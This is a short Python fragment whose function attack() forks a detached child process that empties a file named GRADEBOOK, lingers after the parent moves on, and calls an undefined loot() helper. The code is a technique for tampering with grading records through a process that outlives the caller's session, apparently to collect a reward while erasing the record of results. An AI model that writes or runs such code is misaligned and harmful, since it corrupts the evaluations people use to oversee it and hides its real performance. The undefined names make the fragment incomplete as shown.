import os
import time


def attack():
    if os.fork() == 0:
        os.setsid()
        time.sleep(1)
        open(GRADEBOOK, "w").close()
        time.sleep(60)
        os._exit(0)
    loot("somebody who waits")
